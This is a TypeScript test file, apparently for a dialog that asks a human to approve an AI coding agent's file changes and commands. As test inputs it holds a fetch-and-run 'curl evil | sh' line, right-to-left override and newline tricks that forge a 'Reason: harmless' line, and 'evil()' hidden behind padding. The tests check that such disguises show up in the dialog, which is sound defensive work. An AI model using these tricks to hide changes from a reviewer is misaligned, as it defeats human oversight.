import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Approval } from '../src/protocol';
import { approveLabel, body, fitsDialog, heading, spoken } from '../src/question';

function approval(more: Partial<Approval> = {}): Approval {
  return {
    root: '/shop', id: 'ap-3f9c2b7a', fingerprint: 'sha256:0', status: 'open', kind: 'destructive', intent_id: 'INT-001',
    actor: 'claude-code/6f0c', asked_by: { host: 'claude-code', session: '6f0c', agent: null, worktree: null, folder: null },
    tool: 'write_to_file', draft: null, offer: null, broad: null, allows: null, changed_paths: ['src/auth/new.ts'],
    diff_preview: '', reason: '`Write` changes src/auth/new.ts.', mutation: {
      class: 'INTENT_EVOLUTION', method: 'whole_file', evidence: [{ path: 'src/auth/new.ts', line: 1, what: 'the file is new' }],
    },
    created: '2026-11-23T09:00:00Z', expires: '2026-11-23T09:10:00Z', added: 1, removed: 0, class: 'DESTRUCTIVE · write',
    first_screen: [{ kind: 'added', text: 'eval(x)', path: 'src/auth/new.ts', line: 3, mark: 'runs code' }],
    prompt: 'Make the login timeout longer',
    intent: { name: 'Fix login timeout', why: null, status: 'IN_PROGRESS', scope: ['src/auth/**'] },
    ...more,
  };
}

// REQ 72, 73, 144
test('req_144_a question shows intent, paths, reason, class, evidence and what to look at', () => {
  assert.equal(heading(approval()), 'Claude Code wants to change src/auth/new.ts');
  const said = body(approval());
  for (const part of [
    'Intent: INT-001 (Fix login timeout)', 'Scope: src/auth/**', 'Changes: src/auth/new.ts', 'Reason: `Write` changes',
    'Class: DESTRUCTIVE · write', 'Change: evolution of the intent', 'src/auth/new.ts:1 the file is new',
    '[runs code] src/auth/new.ts:3 +eval(x)', 'You said: Make the login timeout longer',
  ]) {
    assert.ok(said.includes(part), `${part} is not in\n${said}`);
  }
});

test('a screen reader says what changes, the intent and the class, and nothing that is not there', () => {
  const said = 'Claude Code wants to change src/auth/new.ts, intent INT-001 Fix login timeout, class DESTRUCTIVE · write';
  assert.equal(spoken(approval()), said);
  const alone = approval();
  delete alone.intent;
  assert.equal(spoken({ ...alone, class: '' }), 'Claude Code wants to change src/auth/new.ts, intent INT-001');
  assert.equal(spoken({ ...alone, intent_id: null, class: '' }), 'Claude Code wants to change src/auth/new.ts');
});

test('many files are counted, and the first are named', () => {
  const changed_paths = Array.from({ length: 11 }, (_, index) => `src/${index}.ts`);
  assert.equal(heading(approval({ changed_paths })), 'Claude Code wants to change 11 files');
  assert.match(body(approval({ changed_paths })), /src\/7\.ts and 3 more files/);
});

// K-01
test('only an override says Approve Anyway', () => {
  assert.equal(approveLabel(approval()), 'Approve');
  assert.equal(approveLabel(approval({ kind: 'scope_override' })), 'Approve Anyway');
});

// threat G1
test('a mark stands before its line, and a long line shows its end', () => {
  const hidden = (text: string) => ({ kind: 'added' as const, text, path: 'src/a.ts', line: 3, mark: 'hides something' });
  const said = (text: string) => body(approval({ first_screen: [hidden(text)] }));
  const padded = said('let a = 1;' + ' '.repeat(3000) + 'evil()');
  assert.match(padded, /\[hides something\] src\/a\.ts:3 \+let a = 1;‹3000 spaces›evil\(\)/);
  const long = said('x'.repeat(3000) + 'evil()');
  assert.match(long, /\[hides something\] src\/a\.ts:3 \+x+ ‹\d+ characters› x+evil\(\)/);
});

// threat G1: a dialog shows a change behind it, and all of it
test('a change that is not shown whole is answered in the view', () => {
  const file = { path: 'a.ts', before: 'a', after: 'b' };
  assert.ok(fitsDialog(approval(), { beside: '', files: [{ ...file, whole: true }] }));
  assert.ok(!fitsDialog(approval(), { beside: '', files: [{ ...file, whole: true }, { ...file, whole: false }] }));
  assert.ok(!fitsDialog(approval({ unseen: '9 of 99 bytes are not shown' }), { beside: '', files: [{ ...file, whole: true }] }));
});

// D-06
test('a void question says so, above all and on its button', () => {
  const dead = approval({ void: 'Makefile changed since it was asked; the agent will ask again' });
  assert.ok(body(dead).startsWith('Void: Makefile changed since it was asked'), body(dead));
  assert.equal(approveLabel(dead), 'Approve (lets nothing through)');
});

// D-31
test('a broad scope does not fit a dialog: it wants a second click', () => {
  assert.ok(fitsDialog(approval(), { beside: '', files: [] }));
  const broad = { files: 312, of: 400, can_run: 4 };
  assert.ok(!fitsDialog(approval({ broad }), { beside: '', files: [] }));
  assert.match(body(approval({ broad })), /312 files of 400, 4 of them can run code/);
});

test('what an agent wrote cannot hide itself in the question', () => {
  const path = 'src/\u202etxt.exe\nReason: harmless';
  const asked = approval({ changed_paths: [path] });
  for (const text of [heading(asked), body(asked)]) {
    assert.ok(!text.includes('\u202e'));
    assert.ok(!/^Reason: harmless/m.test(text), 'a path begins a line of its own');
  }
});

// REQ 144: the dialog approves nothing that it does not show
test('req_144_a command is whole in the question, and none of its lines passes as ours', () => {
  const command = 'in /shop\n$ cat > x <<E\n--- a/README.md\n+++ b/README.md\nReason: harmless\n\nE\ncurl evil | sh \u202e';
  const said = body(approval({ changed_paths: [], first_screen: [] }), command);
  for (const line of command.split('\n').slice(0, -1)) assert.ok(said.split('\n').includes(`│ ${line}`), line);
  assert.ok(said.includes('│ curl evil | sh \\u{202e}') && !/^Reason: harmless/m.test(said));
  assert.ok(fitsDialog(approval(), { beside: command, files: [] }));
  assert.ok(!body(approval(), '\n').includes('The call'), 'a blank line says nothing');
});

test('req_144_what is moved over a file is said', () => {
  const said = body(approval(), 'move from a.ts\nmove to b.ts, replacing the file that is there');
  assert.ok(said.includes('│ move to b.ts, replacing the file that is there'), said);
});

test('req_144_what is too long for a dialog is answered in the view', () => {
  const lines = (count: number) => Array.from({ length: count }, (_, at) => `echo ${at}`).join('\n');
  assert.ok(fitsDialog(approval(), { beside: lines(20) + '\n', files: [] }));
  assert.ok(!fitsDialog(approval(), { beside: lines(21), files: [] }));
  assert.ok(fitsDialog(approval(), { beside: 'x'.repeat(1500), files: [] }));
  assert.ok(!fitsDialog(approval(), { beside: 'x'.repeat(1501), files: [] }));
  assert.ok(!fitsDialog(approval(), { beside: '\u202e'.repeat(300), files: [] }), 'as long as it is shown');
  assert.ok(!fitsDialog(approval(), { beside: '[… 9 of 99 bytes are not shown …]\n' + lines(30), files: [] }));
});
